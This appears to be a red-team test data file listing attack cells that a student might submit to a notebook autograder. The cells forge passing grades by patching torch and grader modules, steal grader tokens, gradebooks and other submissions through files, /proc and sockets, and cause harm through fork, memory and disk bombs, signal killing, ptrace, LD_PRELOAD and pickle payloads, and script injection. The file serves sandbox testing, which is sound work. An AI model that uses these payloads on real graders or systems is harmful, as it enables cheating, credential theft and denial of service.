"""Attacks on the grader as cells that a student might hand in. Data for test_redteam.py.

Each is the cell of TARGET. `wins` says where it works without a guard:
STOCK   one process for the cell and our own hidden check, as under stock nbgrader
PLAIN   the same with a hand-written test
LOOT    run as it is, it gets hold of a secret and tells it
""       harm: it is shown by its name alone, and never run without a guard
@NAME@ stands for a place or number that the test fills in.
"""

from dataclasses import dataclass

TARGET = "center_backward"  # grad_s (B, O) -> grad_s - grad_s.mean(0)

STOCK = f'from autograder.hidden import grade; grade("{TARGET}", {TARGET})'
PLAIN = f"x = torch.randn(4, 3); assert torch.allclose({TARGET}(x), x - x.mean(0))"
LOOT = f"{TARGET}(torch.ones(4, 3))"

WRONG = f"\ndef {TARGET}(grad_s):\n    return 2 * grad_s\n"


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    wins: str = ""
    isolation: bool = False  # depends on the rung: tried on each
    hangs: bool = False


def tells(body):
    """A cell whose function gathers `loot` and tells it in an exception."""
    lines = "\n".join("    " + line for line in body.strip().split("\n"))
    return f"def {TARGET}(grad_s):\n    loot = []\n{lines}\n    raise AssertionError(repr(loot)[-250:])\n"


def steal(name, body, wins=LOOT):
    return Attack(name, tells(body), wins, isolation=True)


def harm(name, code, isolation=True, hangs=False):
    return Attack(name, code if f"def {TARGET}" in code else code + WRONG, "", isolation, hangs)


def inside(body):
    """A cell whose function runs `body` and then returns something wrong."""
    lines = "\n".join("    " + line for line in body.strip().split("\n"))
    return f"import os, sys, time, signal, ctypes, threading, socket\ndef {TARGET}(grad_s):\n{lines}\n    return 2 * grad_s\n"


FORGING = [
    Attack("comparisons of torch that always agree",
           "torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True\n"
           "torch.testing.assert_close = lambda *a, **k: None" + WRONG, PLAIN),
    Attack("a tensor subclass that agrees with everything", f"""
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.eq, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {{}})
    __eq__ = lambda self, other: True
def {TARGET}(grad_s):
    return (2 * grad_s).as_subclass(Liar)
""", PLAIN),
    Attack("an object in place of a tensor, with every method", f"""
class Anything(torch.Tensor):
    detach = clone = as_subclass = lambda self, *a: Yes()
class Yes:
    dtype, shape, device, layout = torch.float64, (4, 3), torch.device("cpu"), torch.strided
    __getattr__ = lambda self, name: lambda *a, **k: Yes()
    __eq__ = __le__ = lambda self, other: True
def {TARGET}(grad_s):
    return torch.zeros(1).as_subclass(Anything)
"""),
    Attack("a subclass that lies about shape and dtype", f"""
class Lying(torch.Tensor):
    shape = property(lambda self: torch.Size([4, 3]))
    dtype = property(lambda self: torch.float64)
def {TARGET}(grad_s):
    return torch.zeros(()).as_subclass(Lying)
"""),
    Attack("the judge replaced", """
try:
    import autograder.checks, autograder.hidden
    from autograder.checks import Finding
    autograder.checks.judge = lambda *a, **k: Finding("x", "passed")
    autograder.checks.verdict.compare = lambda *a: None
except ImportError:
    pass""" + WRONG, STOCK),
    Attack("the hidden check's module replaced", """
import sys, types
fake = types.ModuleType("autograder.hidden")
fake.grade = lambda *a: None
sys.modules["autograder.hidden"] = fake""" + WRONG, STOCK),
    Attack("an import hook that hands out a mild grader", """
import importlib.abc, importlib.machinery, sys
class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, self) if name == "autograder.hidden" else None
    def exec_module(self, module):
        module.grade = lambda *a: None
sys.modules.pop("autograder.hidden", None)
sys.meta_path.insert(0, Hook())""" + WRONG, STOCK),
    Attack("the oracle imported", f"""
def {TARGET}(grad_s):
    from autograder.checks import find
    return find("{TARGET}").right(grad_s)
""", STOCK),
    Attack("the oracle found by the garbage collector", f"""
import gc
def {TARGET}(grad_s):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Exercise" and thing.name == "{TARGET}":
            return thing.right(grad_s)
""", STOCK),
    Attack("the oracle found among the modules", f"""
import sys
def {TARGET}(grad_s):
    for module in list(sys.modules.values()):
        for thing in list(vars(module).values()):
            if type(thing).__name__ == "Exercise" and thing.name == "{TARGET}":
                return thing.right(grad_s)
""", STOCK),
    Attack("the caller's frames searched for what is expected", f"""
import sys
def {TARGET}(grad_s):
    frame = sys._getframe(1)
    while frame:
        for thing in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            right = getattr(thing, "right", None) or getattr(getattr(thing, "exercise", None), "right", None)
            if getattr(right, "__module__", "").startswith("autograder") and "grad_s" in getattr(right, "__code__", right).co_varnames:
                return right(grad_s)
        frame = frame.f_back
"""),
    Attack("assertions that raise nothing", """
import autograder
try:
    import autograder.checks.verdict as verdict
    verdict.Finding.passed = property(lambda self: True)
except ImportError:
    pass""" + WRONG, STOCK),
    Attack("the input changed until the answer is right", f"def {TARGET}(grad_s):\n    return grad_s.zero_()\n", PLAIN),
    Attack("the first answer again and again", f"""
seen = []
def {TARGET}(grad_s):
    seen.append(grad_s)
    return seen[0]
"""),
    Attack("a function whose code changes as it is called", f"""
def {TARGET}(grad_s):
    {TARGET}.__code__ = (lambda grad_s: grad_s * 0).__code__
    return grad_s
"""),
    Attack("a trace function that rewrites what is returned", """
import sys
def trace(frame, event, arg):
    for name in ("problem", "seen", "passed", "problems"):
        if name in frame.f_locals:
            frame.f_locals[name] = None
    return trace
sys.settrace(trace)""" + WRONG),
    Attack("NaN, so that no comparison is false", f"def {TARGET}(grad_s):\n    return grad_s * float('nan')\n"),
    Attack("an object that runs code when it is unpickled", f"""
import os
class Bomb:
    __reduce__ = lambda self: (os.system, ("touch @FOLDER@/unpickled",))
def {TARGET}(grad_s):
    return Bomb()
"""),
    Attack("a dictionary of bombs in place of a tensor", f"""
import os
class Bomb(str):
    __reduce__ = lambda self: (os.system, ("touch @FOLDER@/unpickled",))
def {TARGET}(grad_s):
    return {{Bomb("grad_r"): [Bomb("x")] * 5}}
"""),
    Attack("observations written to every open file", """
import json, os, struct
def frame(kind, head, body=b""):
    text = json.dumps(head).encode()
    data = kind + struct.pack(">I", len(text)) + text + body
    return struct.pack(">I", len(data)) + data
tree = json.dumps({"parts": {"grad_r": ["float", "0x0p+0"]}, "problem": None, "mutated": [], "printed": ""}).encode()
forged = frame(b"s", {"exercise": "center_backward", "index": 0}, struct.pack(">I", len(tree)) + tree)
for fd in range(3, 64):
    try:
        os.write(fd, forged * 20)
    except OSError:
        pass""" + WRONG),
    Attack("an end written to every open file, and a way out", """
import os, struct
data = b"d" + struct.pack(">I", 2) + b"{}"
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack(">I", len(data)) + data)
    except OSError:
        pass
os._exit(0)""" + WRONG),
    Attack("noise written to every open file", """
import os
for fd in range(3, 64):
    try:
        os.write(fd, os.urandom(50000))
    except OSError:
        pass
    """ + WRONG),
    Attack("IPython's transformers", "get_ipython().ast_transformers.append(None)" + WRONG),
    Attack("handlers at exit", "import atexit\natexit.register(print, 'passed')" + WRONG),
]

STEALING = [
    steal("a file of the grader's", "loot += [open('@FOLDER@/secret').read()]"),
    steal("the grade book", "loot += [open('@FOLDER@/gradebook.db', 'rb').read()]"),
    steal("another submission", "import glob\nloot += [open(p).read() for p in glob.glob('@FOLDER@/submitted/*/*/*')]"),
    steal("the solutions", "assert 'SOLUTION' in open('@ROOT@/solutions/05_batch_norm.md').read()\nloot += ['secret' '-@TOKEN@']"),
    steal("the checks", "assert 'oracle' in open('@ROOT@/autograder/checks/ch05_batch_norm.py').read()\nloot += ['secret' '-@TOKEN@']"),
    steal("the environment", "import os\nloot += [os.environ.get('GRADER_TOKEN')]"),
    steal("the environment at the process's start", """
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/@PID@/environ"):
    try:
        loot += [v for v in open(path).read().split("\\0") if "GRADER_TOKEN" in v] or []
    except OSError:
        pass
import os
loot += [os.environ.get("GRADER_TOKEN")]"""),
    steal("the grader's memory", """
import os
place = @ADDRESS@
with open("/proc/@PID@/mem", "rb") as memory:
    memory.seek(place)
    loot += [memory.read(@SIZE@)]"""),
    steal("open descriptors", """
import os
for fd in range(3, 1000):
    try:
        loot += [os.pread(fd, 200, 0)]
    except OSError:
        pass"""),
    steal("a service on the network", """
import socket
loot += [socket.create_connection(("127.0.0.1", @PORT@), timeout=2).recv(100)]"""),
    steal("an abstract local socket", """
import socket
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(2)
    s.connect(b"\\0@ABSTRACT@")
    loot += [s.recv(100)]"""),
    steal("a local socket in the file system", """
import socket
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(2)
    s.connect("@FOLDER@/socket")
    loot += [s.recv(100)]"""),
    steal("a name server", """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(2)
    s.sendto(b"question", ("127.0.0.1", @UDP@))
    loot += [s.recv(100)]"""),
    steal("what an earlier submission left in memory", """
import ctypes, os, re
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
r, w = os.pipe()
os.set_blocking(r, False)
size = 4096
def page(place):  # a system call answers EFAULT where a look would crash
    return os.read(r, size) if libc.write(w, ctypes.c_void_p(place), ctypes.c_size_t(size)) == size else b""
heaps = [libc.sbrk(0), *(id(object()) + k * (1 << 24) for k in range(3))]
for end in heaps:
    for place in range(end // size * size - (96 << 20), end // size * size + (1 << 22), size):
        loot += re.findall(rb"bob[-]wrote[-]this[-]alone", page(place))""", wins=""),
    steal("what an earlier submission left on disk", """
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
    for where, _, names in os.walk(folder):
        loot += [os.path.join(where, n) for n in names if n.startswith("bob-wrote")]""", wins=""),
]

HARMING = [
    harm("memory bomb", inside("hoard = []\nwhile True:\n    hoard.append(bytearray(b'x') * (1 << 26))")),
    harm("memory bomb in files without a name",
         inside("hoard = []\nwhile True:\n    hoard.append(os.memfd_create('x'))\n    os.write(hoard[-1], bytes(1 << 24))")),
    harm("fork bomb", inside("end = time.time() + 1\nwhile time.time() < end:\n    try:\n        os.fork()\n"
                             "    except OSError:\n        pass\ntime.sleep(600)"), hangs=True),
    harm("thread bomb", inside("while True:\n    threading.Thread(target=time.sleep, args=(600,)).start()")),
    harm("disk bomb", inside("for k in range(10**6):\n    with open(f'f{k}', 'wb') as f:\n        f.write(bytes(1 << 23))")),
    harm("a million files", inside("for k in range(10**6):\n    open(f'f{k}', 'w').close()"), hangs=True),
    harm("folders in folders", inside("for k in range(3000):\n    os.mkdir('d')\n    os.chdir('d')")),
    harm("every descriptor", inside("hoard = []\nwhile True:\n    hoard += os.pipe()")),
    harm("endless loop", inside("while True:\n    pass"), isolation=False, hangs=True),
    harm("endless loop in the cell", "while True:\n    pass", isolation=False, hangs=True),
    harm("catastrophic regular expression", inside("import re\nre.match('(a|a)*b', 'a' * 60)"), isolation=False, hangs=True),
    harm("one long operation of torch", inside("x = torch.ones(9000, 9000)\nfor _ in range(9):\n    x = x @ x"),
         isolation=False, hangs=True),
    harm("an alarm that is caught", inside("while True:\n    try:\n        time.sleep(600)\n    except BaseException:\n        pass"),
         isolation=False, hangs=True),
    harm("an alarm that is ignored", "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n" +
         inside("signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass"), isolation=False, hangs=True),
    harm("an alarm that is cancelled", inside("signal.setitimer(signal.ITIMER_REAL, 0)\nwhile True:\n    pass"),
         isolation=False, hangs=True),
    harm("every signal blocked", inside("signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nctypes.CDLL(None).sleep(600)"),
         isolation=False, hangs=True),
    harm("the limits raised", inside("import resource\nresource.setrlimit(resource.RLIMIT_NPROC, (9999, 9999))"), isolation=False),
    harm("an exit in the cell", "import os\nos._exit(0)"),
    harm("an exit in the function", inside("os._exit(0)")),
    harm("SystemExit", inside("sys.exit(0)"), isolation=False),
    harm("KeyboardInterrupt", inside("raise KeyboardInterrupt"), isolation=False),
    harm("a segmentation fault", inside("ctypes.string_at(0)"), isolation=False),
    harm("another program in its place", inside("os.execv('/bin/sh', ['sh', '-c', 'sleep 600'])"), hangs=True),
    harm("a daemon that outlives", inside("if not os.fork():\n    os.setsid()\n    if not os.fork():\n"
                                          "        time.sleep(600)\n    os._exit(0)")),
    harm("a daemon that ignores signals", inside(
        "if not os.fork():\n    for s in range(1, 32):\n        try:\n            signal.signal(s, signal.SIG_IGN)\n"
        "        except (OSError, ValueError):\n            pass\n    time.sleep(600)")),
    harm("signals to everyone", inside("for pid in (os.getppid(), @PID@, @KEEPER@, 0, -1):\n    try:\n"
                                       "        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass")),
    harm("signals through a descriptor's owner", inside(
        "import fcntl\nr, w = os.pipe()\nfor pid in (@PID@, @KEEPER@):\n    try:\n        fcntl.fcntl(r, 8, pid)\n"
        "        fcntl.fcntl(r, 10, 9)\n        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)\n        os.write(w, b'x')\n"
        "    except OSError:\n        pass")),
    harm("the grader's limits lowered", inside(
        "import resource\nfor pid in (@PID@, @KEEPER@):\n    try:\n        resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))\n"
        "    except OSError:\n        pass")),
    harm("the grader traced", inside(
        "l = ctypes.CDLL(None)\nfor pid in (@PID@, @KEEPER@):\n    l.ptrace(16, pid, 0, 0)\n    l.ptrace(8, pid, 0, 0)")),
    harm("a library for the next process", "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n"
         "for path in ('/etc/ld.so.preload', '/tmp/x.so'):\n    try:\n        open(path, 'w').write('/tmp/x.so')\n"
         "    except OSError:\n        pass"),
    harm("Python's packages changed", "import torch, os\nfor path in (torch.__file__, os.__file__):\n    try:\n"
         "        open(path, 'a').write('raise SystemExit\\n')\n    except OSError:\n        pass"),
    harm("a start-up file for the next process", "import site, os\nfor folder in [*site.getsitepackages(), os.getcwd(), '/tmp']:\n"
         "    try:\n        open(f'{folder}/sitecustomize.py', 'w').write('raise SystemExit')\n    except OSError:\n        pass"),
    harm("memory that outlives its process", inside(
        "l = ctypes.CDLL(None)\nl.shmat(l.shmget(0xA77AC, 4096, 0o1666), None, 0)")),
    harm("huge output", inside("return torch.zeros(60_000_000)"), isolation=False),
    harm("endless printing", inside("while True:\n    print('x' * 10**7)")),
    harm("a number of a million digits", inside("return 10**1_000_000"), isolation=False),
    harm("a list in a list in a list", inside("x = []\nfor _ in range(10**5):\n    x = [x]\nreturn x"), isolation=False),
    harm("a list that holds itself", inside("x = []\nx.append(x)\nreturn x"), isolation=False),
    harm("a list of a million numbers", inside("return [0.5] * 10**6"), isolation=False),
    harm("escape sequences and markup", "raise ValueError('\\x1b[2J\\x1b]0;owned\\x07<script>alert(1)</script>\\u202e\\x00')",
         isolation=False),
    harm("markup in what is printed and raised", inside(
        "print('<img src=x onerror=alert(1)>\\x1b[31m')\nraise ValueError('</section><script>alert(1)</script>\\x1b[2J')"),
        isolation=False),
    harm("half a surrogate pair", inside("raise ValueError('\\ud800' * 50)"), isolation=False),
    harm("half a surrogate pair, returned", inside("return '\\ud800'"), isolation=False),
]

ATTACKS = FORGING + STEALING + HARMING
